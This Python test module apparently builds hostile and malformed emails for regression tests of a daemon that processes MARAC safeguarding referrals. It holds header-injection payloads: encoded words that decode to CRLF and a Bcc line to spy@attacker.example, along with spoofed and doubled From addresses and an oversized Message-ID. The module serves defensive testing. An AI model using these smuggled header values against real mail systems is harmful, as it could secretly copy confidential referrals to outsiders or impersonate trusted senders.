"""Hostile and careless emails whose danger is in who they say they are from or answer to,
or in what their subject claims: issue 15's header and password-email classes.

An id or an address written as an RFC 2047 encoded word would, if decoded, write a Bcc line
into a confirmation or put another address in To than the one checked as secure; a From of
an empty encoded word used to stop the daemon; a subject mentioning a password made a PDF
or a forgotten attachment vanish; automatic mail (out-of-office, bounces, lists) earned a
rejection and made the mailbox a source of backscatter. Each builder takes the corpus's
referral for it and returns a whole .eml; `hostile_corpus.EMAILS` gives the code the daemon
must record.
"""

from __future__ import annotations

import base64

from tests.hostile_mail import (
    DATE,
    SENDER,
    TO,
    attachment,
    headers,
    multipart,
    text_part,
    with_form,
)

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _encoded(text: bytes) -> str:
    return f"=?utf-8?b?{base64.b64encode(text).decode()}?="


def _replace_header(raw: bytes, name: str, value: str) -> bytes:
    start = raw.index(f"{name}: ".encode())
    end = raw.index(b"\n", start)
    return raw[:start] + f"{name}: {value}".encode() + raw[end:]


def encoded_crlf_message_id(form: bytes) -> bytes:
    """A Message-ID whose encoded word decodes to CR LF, a Bcc line and opening text: copied
    into In-Reply-To decoded, it would write them into the confirmation."""
    evil = _encoded(b"x>\r\nBcc: spy@attacker.example\r\n\r\nHello")
    return _replace_header(with_form("enc-msgid", form), "Message-ID", f"<{evil}@attacker.example>")


def encoded_crlf_in_reply_to(form: bytes) -> bytes:
    """An In-Reply-To that is an encoded word decoding to CR LF and a Bcc line."""
    evil = _encoded(b"<a@b>\r\nBcc: spy@attacker.example")
    return with_form("enc-in-reply-to", form, extra=f"In-Reply-To: {evil}\n".encode())


def empty_encoded_local_part(form: bytes) -> bytes:
    """A From whose local part is an empty encoded word at a free-mail domain: it passed the
    sender checks, then every reply to it (and the fallback's) raised."""
    return _replace_header(with_form("empty-local", form), "From", "=?utf-8?b??=@gmail.com")


def encoded_address_only(form: bytes) -> bytes:
    """A From that is only an encoded word decoding to an address (no addr-spec at all)."""
    return _replace_header(
        with_form("enc-from", form), "From", "=?utf-8?q?spy=40attacker=2Eexample?="
    )


def display_name_spoofs_secure(form: bytes) -> bytes:
    """A display name that is a secure address, before a free-mail address."""
    return _replace_header(
        with_form("spoof-name", form), "From", f'"{SENDER}" <spy@attacker.example>'
    )


def two_from_addresses(form: bytes) -> bytes:
    """Two addresses in From, the second an attacker's."""
    return _replace_header(with_form("two-from", form), "From", f"{SENDER}, spy@attacker.example")


def overlong_message_id(form: bytes) -> bytes:
    """A Message-ID of 2,000 characters (past RFC 5322's 998-octet line)."""
    return _replace_header(
        with_form("long-msgid", form), "Message-ID", f"<{'a' * 2000}@west-midlands.pnn.police.uk>"
    )


# The password emails come from an address with nothing waiting for a password (the corpus's
# other emails come from the police, some of whose documents the corpus locks).
NOTHING_WAITING = "duty.desk@nhs.net"


def password_subject_with_pdf(_: bytes) -> bytes:
    """A subject mentioning a password, a PDF attached and nothing waiting for the sender: it
    used to be taken for a password email and vanish."""
    return _replace_header(
        multipart(
            "password-pdf",
            [
                text_part("Referral attached as PDF."),
                attachment(PDF, b'"referral.pdf"', "application/pdf"),
            ],
            subject="Referral - password protected",
        ),
        "From",
        NOTHING_WAITING,
    )


def password_to_follow(_: bytes) -> bytes:
    """A referral whose subject says the password follows, the form forgotten."""
    return headers(
        "password-follow", "MARAC referral - password to follow", sender=NOTHING_WAITING
    ) + (b"Content-Type: text/plain; charset=utf-8\n\nReferral attached, password to follow.\n")


def out_of_office(_: bytes) -> bytes:
    """An out-of-office answer (Auto-Submitted: auto-replied, RFC 3834)."""
    return headers(
        "ooo",
        "Automatic reply: MARAC referral",
        extra=b"Auto-Submitted: auto-replied\nX-Auto-Response-Suppress: All\n",
    ) + (b"Content-Type: text/plain; charset=utf-8\n\nI am out of the office until Monday.\n")


def delivery_report(_: bytes) -> bytes:
    """A bounce: a delivery status report from the mailer daemon, empty Return-Path."""
    boundary = "==report=="
    return (
        f"Return-Path: <>\nFrom: MAILER-DAEMON@mail.west-midlands.pnn.police.uk\n"
        f"To: {TO}\nSubject: Undelivered Mail Returned to Sender\nDate: {DATE}\n"
        "Message-ID: <bounce-1@mail.west-midlands.pnn.police.uk>\nMIME-Version: 1.0\n"
        "Auto-Submitted: auto-replied\n"
        f'Content-Type: multipart/report; report-type=delivery-status; boundary="{boundary}"'
        f"\n\n--{boundary}\nContent-Type: text/plain\n\nThe message could not be delivered."
        f"\n--{boundary}\nContent-Type: message/delivery-status\n\nReporting-MTA: dns;"
        f" mail.example\n\nFinal-Recipient: rfc822; nobody@example.org\nAction: failed\n"
        f"Status: 5.1.1\n--{boundary}--\n"
    ).encode()


def list_mail(_: bytes) -> bytes:
    """A mailing-list newsletter (List-Id, List-Unsubscribe, Precedence: bulk)."""
    return headers(
        "newsletter",
        "Safeguarding newsletter, November",
        extra=(
            b"List-Id: <safeguarding-news.lists.example.org>\n"
            b"List-Unsubscribe: <mailto:leave@lists.example.org>\nPrecedence: bulk\n"
        ),
    ) + (b"Content-Type: text/plain; charset=utf-8\n\nThis month's news.\n")
